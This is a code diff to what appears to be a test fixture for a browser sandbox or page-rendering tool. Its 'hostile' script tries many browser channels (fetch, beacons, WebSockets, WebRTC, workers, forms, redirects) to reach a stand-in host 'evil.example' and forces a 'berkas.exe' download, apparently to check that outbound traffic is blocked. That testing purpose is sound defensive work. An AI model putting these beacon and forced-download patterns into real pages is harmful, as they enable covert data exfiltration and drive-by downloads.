@@ -14,7 +14,7 @@ const load = () => fetch("/api" + location.pathname).then(r => r.json()).then(r 
 """
 WAYS = {
     "fetched": "load();",
-    "late": "setTimeout(load, 2500);",
+    "late": "setTimeout(load, 1500);",
     "never": "setInterval(() => { document.title = Date.now(); }, 50);",
     "silent": "setTimeout(() => fetch('/api/nothing'), 100);",
     "consent": """
@@ -25,7 +25,8 @@ WAYS = {
         document.querySelector(".consent-accept").onclick = () => { show("<h1>Diterima</h1>"); };
     """,
     "heavy": """
-        document.body.insertAdjacentHTML("beforeend", '<img src="/assets/foto.jpg"><video src="/assets/film.mp4"></video>'
+        document.body.insertAdjacentHTML("beforeend", '<img src="/assets/foto.jpg">'
+            + '<video src="/assets/film.mp4"></video>'
             + '<iframe src="/bingkai"></iframe>'
             + '<style>@font-face{font-family:x;src:url(/assets/huruf.woff2)} body{font-family:x}</style>');
         for (const src of ["/ads/iklan.js", "https://iklan.example/gpt.js", "/admin/rahasia.js"])
@@ -110,34 +111,36 @@ def hostile(port: int) -> str:
     """A script that tries to get out: to other hosts by name and by address (`port` on loopback), with every means."""
     return (
         """
+        const attempt = way => { try { way(); } catch (error) { console.log(error); } };
+        const add = (parent, tag, with_) => parent.append(Object.assign(document.createElement(tag), with_));
         const here = "127.0.0.1:PORT", evil = "evil.example";
-        for (const at of [here, "localhost:PORT", evil]) {
-            fetch("http://" + at + "/fetch", {mode: "no-cors"}).catch(() => 0);
-            navigator.sendBeacon("http://" + at + "/beacon", "x");
-            new WebSocket("ws://" + at + "/socket");
-            new EventSource("http://" + at + "/events");
+        for (const [s, at] of [["", here], ["", "localhost:PORT"], ["s", evil]]) {
+            const http = `http${s}://${at}`, socket = `ws${s}://${at}/socket`;
+            attempt(() => fetch(http + "/fetch", {mode: "no-cors"}).catch(() => 0));
+            attempt(() => fetch(http + "/post", {mode: "no-cors", method: "POST", body: "x"}).catch(() => 0));
+            attempt(() => navigator.sendBeacon(http + "/beacon", "x"));
+            attempt(() => new WebSocket(socket));
+            attempt(() => new EventSource(http + "/events"));
             for (const [tag, name] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["object", "data"]])
-                document.body.append(Object.assign(document.createElement(tag), {[name]: "http://" + at + "/" + tag}));
+                add(document.body, tag, {[name]: `${http}/${tag}`});
             for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "stylesheet"])
-                document.head.append(Object.assign(document.createElement("link"),
-                    {rel, as: "fetch", href: "http://" + at + "/" + rel}));
-            const peer = new RTCPeerConnection({iceServers: [{urls: "stun:" + at}]});
-            peer.createDataChannel("x");
-            peer.createOffer().then(offer => peer.setLocalDescription(offer));
-            const code = "fetch('http://" + at + "/worker'); new WebSocket('ws://" + at + "/worker')";
-            new Worker(URL.createObjectURL(new Blob([code])));
-            window.open("http://" + at + "/popup");
-            const form = Object.assign(document.createElement("form"), {action: "http://" + at, method: "post"});
-            document.body.append(form);
-            form.submit();
+                add(document.head, "link", {rel, as: "fetch", href: `${http}/${rel}`});
+            attempt(() => {
+                const peer = new RTCPeerConnection({iceServers: [{urls: "stun:" + at}]});
+                peer.createDataChannel("x");
+                peer.createOffer().then(offer => peer.setLocalDescription(offer));
+            });
+            const code = `fetch("${http}/worker"); new WebSocket("${socket}")`;
+            attempt(() => new Worker(URL.createObjectURL(new Blob([code]))));
+            attempt(() => window.open(http + "/popup"));
+            attempt(() => { add(document.body, "form", {action: http + "/form"}); document.forms[0].submit(); });
         }
-        navigator.serviceWorker.register("/sw.js").catch(() => 0);
+        attempt(() => navigator.serviceWorker.register("/sw.js").catch(() => 0));
         fetch("/leads-away").catch(() => 0);
-        const file = URL.createObjectURL(new Blob(["berkas"]));
-        Object.assign(document.createElement("a"), {href: file, download: "berkas.exe"}).click();
-        Object.assign(document.createElement("a"), {href: "/berkas.zip", download: "berkas.zip"}).click();
-        setTimeout(() => { location = "http://" + evil + "/gone"; }, 100);
-        setTimeout(() => { location = "http://" + here + "/gone"; }, 200);
+        for (const href of [URL.createObjectURL(new Blob(["berkas"])), "/berkas.zip"])
+            attempt(() => Object.assign(document.createElement("a"), {href, download: "berkas.exe"}).click());
+        setTimeout(() => { location = `https://${evil}/gone`; }, 100);
+        setTimeout(() => { location = `http://${here}/gone`; }, 200);
         setTimeout(() => { location.reload(); }, 300);
         setTimeout(load, 500);
         """
